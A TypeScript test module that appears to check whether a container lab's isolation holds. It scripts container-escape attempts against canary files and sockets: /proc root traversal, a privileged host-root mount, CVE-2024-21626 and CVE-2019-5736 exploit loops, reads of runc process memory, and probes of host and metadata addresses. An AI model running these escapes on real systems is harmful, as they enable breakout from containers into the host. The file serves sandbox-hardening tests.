/** Class 3: the lab host's socket and files, by a lab's own means and through what the lab host does in the lab. */
import { readFileSync } from 'node:fs';
import {
  defineAttempt,
  defineScript,
  inOwnMounts,
  type Attempt,
  type Outcome,
} from '../attempt.ts';
import { hostCommand } from '../stage/host-command.ts';
import { lastLine } from '../stage/outcome.ts';
import type { Stage } from '../stage/stage.ts';
import { withMachineProcesses } from '../stage/variants.ts';
import { fillIn } from './fill-in.ts';

const of = 'engine-socket' as const;

export const engineSocket: Attempt[] = [
  defineScript({
    id: 'socket-through-proc',
    class: of,
    title: "connect to the lab host's engine through /proc/<pid>/root of a process of the machine",
    why: "The lab's process namespace shows no process of the machine, in a fresh /proc either.",
    script: (stage) =>
      `mount -t proc proc /mnt; for root in /mnt/[0-9]*/root /proc/[0-9]*/root; do [ -S $root${stage.paths.engineSocket} ] && curl -s -m 2 --unix-socket $root${stage.paths.engineSocket} http://docker/_ping | grep -q OK && { echo "it answers at $root"; exit 0; }; done; echo 'no process leads to it'; exit 1`,
    control: withMachineProcesses,
  }),
  defineScript({
    id: 'canary-through-proc',
    class: of,
    title:
      'read a file of the machine through /proc/<pid>/root, cwd and fd of any process in sight',
    why: "The lab's process namespace shows no process of the machine.",
    script: (stage) =>
      `for link in /proc/[0-9]*/root /proc/[0-9]*/cwd; do grep -qs ${stage.canaries.token} $link${stage.canaries.file} && { echo "read through $link"; exit 0; }; done; echo 'no process leads to it'; exit 1`,
    control: withMachineProcesses,
  }),
  defineAttempt({
    id: 'inner-privileged',
    class: of,
    title:
      "mount the machine's root with a privileged container of the lab's own engine (--pid host, -v /:/host)",
    why: "The lab's engine can give a container no more than the lab itself has.",
    timeoutMs: 60_000,
    async run(stage) {
      const { output } = await stage.attacker.run(
        `docker run --rm --privileged --pid host --net host --ipc host -v /:/host -v /proc:/hostproc debian sh -c 'ls -d /host${stage.paths.runDir} /hostproc/*/root${stage.paths.runDir} 2>/dev/null; cat /host${stage.canaries.file} 2>&1'`,
      );
      return { reached: output.includes(stage.canaries.token), seen: lastLine(output) };
    },
    // The very same of the lab host's engine: a container of it, with the machine's root in it.
    async control(stage) {
      await using container = await stage.engine.container((options) => ({
        ...options,
        Binds: ['/:/host'],
      }));
      const { output } = await container.run(`cat /host${stage.canaries.file}`);
      return { reached: output.includes(stage.canaries.token), seen: 'read the canary' };
    },
  }),
  defineAttempt({
    id: 'working-directory',
    class: of,
    title:
      'make /root a link to /proc/self/fd/N, so that a shell opened from outside starts in a directory of the machine (CVE-2024-21626)',
    why: 'The entry into a lab leaves no descriptor of the machine open, and checks where it has got to.',
    setting: 'own',
    timeoutMs: 60_000,
    async run(stage) {
      await stage.attacker.must('mv /root /root.kept');
      const seen: string[] = [];
      let reached = false;
      for (let fd = 3; fd < 14; fd += 1) {
        await enterPlainly(
          stage,
          stage.attacker.initPid,
          `rm -f /root; ln -s /proc/self/fd/${String(fd)} /root`,
        );
        const { output } = await stage.attacker
          .run(upwards(stage))
          .catch((error: unknown) => ({ output: String(error) }));
        reached ||= output.includes(stage.canaries.token);
        seen.push(lastLine(output));
      }
      await enterPlainly(stage, stage.attacker.initPid, 'rm -f /root; mv /root.kept /root');
      return { reached, seen: [...new Set(seen)].join('; ').slice(0, 200) };
    },
    /** An entry that forgets a descriptor and does not check. */
    async control(stage) {
      await enterPlainly(
        stage,
        stage.attacker.initPid,
        'mv /root /root.kept; ln -s /proc/self/fd/9 /root',
      );
      const script = `exec 9<"$1"; exec nsenter -t ${String(stage.attacker.initPid)} -a -- sh -c 'cd /root; cat canary; pwd'`;
      const { output } = await hostCommand({
        program: 'bash',
        args: ['-c', script, 'bash', stage.canaries.folder],
      });
      await enterPlainly(stage, stage.attacker.initPid, 'rm -f /root; mv /root.kept /root');
      return {
        reached: output.includes(stage.canaries.token),
        seen: 'the shell starts in a directory of the machine',
      };
    },
  }),
  defineAttempt({
    id: 'watch-entries',
    class: of,
    title:
      'lie in wait for the programs that enter the lab from outside, and take what they have open (root, cwd, exe, fd, memory)',
    why: "Until it has become the lab's own program, what enters is not dumpable, and its memory is of the machine's user namespace.",
    setting: 'own',
    timeoutMs: 60_000,
    async run(stage) {
      const watch = stage.attacker.run(watcher(stage, 8), { timeoutMs: 20_000 });
      await pause(500);
      for (let entry = 0; entry < 40; entry += 1) await stage.attacker.run('true');
      const { output } = await watch;
      return watched(stage, output);
    },
    async control(stage) {
      const watch = stage.attacker.run(watcher(stage, 5), { timeoutMs: 20_000 });
      await pause(500);
      const script = `exec 9<"$1"; exec nsenter -t ${String(stage.attacker.initPid)} -a -- sleep 3`;
      await hostCommand({ program: 'bash', args: ['-c', script, 'bash', stage.canaries.folder] });
      return watched(stage, (await watch).output);
    },
  }),
  defineAttempt({
    id: 'runtime-binary',
    class: of,
    title:
      'have the runtime run itself by a shell that is a link to /proc/self/exe, to overwrite it (CVE-2019-5736)',
    why: "The runtime runs from a sealed copy of itself, and its file belongs to the machine's root.",
    setting: 'own',
    spoils: true,
    timeoutMs: 60_000,
    async run(stage) {
      const before = await runtimeFiles();
      await stage.attacker.must(`cp /bin/bash /bin/bash.kept; (
        while :; do for exe in /proc/[0-9]*/exe; do case $(readlink $exe) in *runc*) (exec 3<$exe && printf overwritten >/proc/self/fd/3) 2>/dev/null;; esac; done; done
        ) >/dev/null 2>&1 & printf '#!/proc/self/exe\\n' >/bin/.link && mv /bin/.link /bin/bash && /bin/bash.kept -c 'chmod 755 /bin/bash'`);
      for (let entry = 0; entry < 10; entry += 1)
        await stage.attacker.run('true').catch(() => undefined);
      const after = await runtimeFiles();
      return { reached: before !== after, seen: 'the runtime is as it was' };
    },
    control:
      'unsafe: it wants a runtime that can be overwritten, and this one serves all labs of the machine',
  }),
  defineAttempt({
    id: 'agent-socket',
    class: of,
    title:
      "reach the machine's services from the lab's network: the web server's port, a Docker port, any address of the machine",
    why: 'The lab has a network namespace of its own without an interface but lo.',
    run: (stage) => stage.attacker.try(inOwnMounts(reachOut(stage))),
    control: async (stage) => {
      const { exitCode, output } = await hostCommand({
        program: 'bash',
        args: ['-s'],
        stdin: reachOut(stage),
      });
      return { reached: exitCode === 0, seen: lastLine(output) };
    },
  }),
  defineAttempt({
    id: 'mount-propagation',
    class: of,
    title: "mount something where the machine sees it, below the lab's disk",
    why: "Mounts of another user namespace are no peers of the machine's.",
    async run(stage) {
      await stage.attacker.must(
        'mkdir -p /var/lib/docker/.here; mount --make-rshared /; mount -t tmpfs escaped-mount /var/lib/docker/.here',
      );
      const seen =
        readFileSync('/proc/self/mountinfo', 'utf8') + (await hostNamespaceMounts(stage));
      await stage.attacker.must('umount /var/lib/docker/.here; rmdir /var/lib/docker/.here');
      return { reached: seen.includes('escaped-mount'), seen: 'the machine has no such mount' };
    },
    async control(stage) {
      const script = fillIn(
        `unshare --mount bash -c 'mount -t tmpfs t @folder && mkdir @folder/in && mount --make-shared @folder && unshare --mount --propagation unchanged mount -t tmpfs escaped-mount @folder/in && grep escaped-mount /proc/self/mountinfo'`,
        { folder: stage.canaries.folder },
      );
      const { output } = await hostCommand({ program: 'bash', args: ['-c', script] });
      return { reached: output.includes('escaped-mount'), seen: lastLine(output) };
    },
  }),
];

/** Into all namespaces of a process, by what the machine has; only for a lab of ours that has not turned on its tools. */
async function enterPlainly(_stage: Stage, pid: number, script: string): Promise<void> {
  await hostCommand({
    program: 'nsenter',
    args: ['-t', String(pid), '-a', '--', '/bin/sh', '-c', script],
  });
}

function upwards(stage: Stage): string {
  return `pwd; at=.; for step in 1 2 3 4 5 6 7 8; do cat "$at${stage.canaries.file}" "$at/canary" 2>/dev/null; at=$at/..; done; ls / | tr '\\n' ' '`;
}

function watcher(stage: Stage, seconds: number): string {
  return `perl -e '
    my $end = time + ${String(seconds)}; my ($looks, %refused);
    while (time < $end) {
      opendir my $all, "/proc"; my @pids = grep { /^\\d+$/ && !$known{$_} } readdir $all;
      for my $pid (@pids) {
        open my $name, "<", "/proc/$pid/comm" or next; chomp(my $comm = <$name>);
        $looks++ if $comm =~ /runc/;
        for my $link ("root", "cwd", (map { "fd/$_" } 3 .. 14)) {
          for my $path ("/proc/$pid/$link/canary", "/proc/$pid/$link${stage.canaries.file}") {
            open my $file, "<", $path or do { $refused{"$!"}++ if $comm =~ /runc/; next };
            print "TAKEN by $link of $comm: ", <$file>;
          }
        }
        if ($comm =~ /runc/) { for my $what ("mem", "environ", "exe") { open my $file, "<", "/proc/$pid/$what" and sysread($file, my $x, 16) and print "TAKEN $what of $comm\\n"; } }
      }
    }
    print "saw an entry ", $looks + 0, " times; refused: ", join(", ", map { "$_ ($refused{$_})" } sort keys %refused), "\\n"'`;
}

function watched(stage: Stage, output: string): Outcome {
  const taken = /^TAKEN.*$/m.exec(output)?.[0];
  return {
    reached: taken !== undefined,
    seen: (taken ?? lastLine(output)).replace(stage.canaries.token, '(canary)'),
  };
}

async function runtimeFiles(): Promise<string> {
  const { output } = await hostCommand({
    program: 'sh',
    args: ['-c', 'sha256sum $(which runc) $(which docker) $(which containerd-shim-runc-v2)'],
  });
  return output;
}

function reachOut(stage: Stage): string {
  const { port } = stage.canaries;
  const addresses = [
    '127.0.0.1',
    'localhost',
    '10.0.2.2',
    '10.0.2.3',
    '172.17.0.1',
    '192.168.0.1',
    '169.254.169.254',
    '[::1]',
  ];
  return `ip link set lo up; for at in ${addresses.join(' ')} $(hostname -I); do curl -s -m 1 --noproxy '*' http://$at:${String(port)}/ | grep -q ${stage.canaries.token} && { echo "answered at $at"; exit 0; }; done; echo 'nobody answered'; exit 1`;
}

async function hostNamespaceMounts(stage: Stage): Promise<string> {
  const { output } = await hostCommand({
    program: 'nsenter',
    args: [`--mount=${stage.paths.namespaces}/mnt`, 'cat', '/proc/self/mountinfo'],
  });
  return output;
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
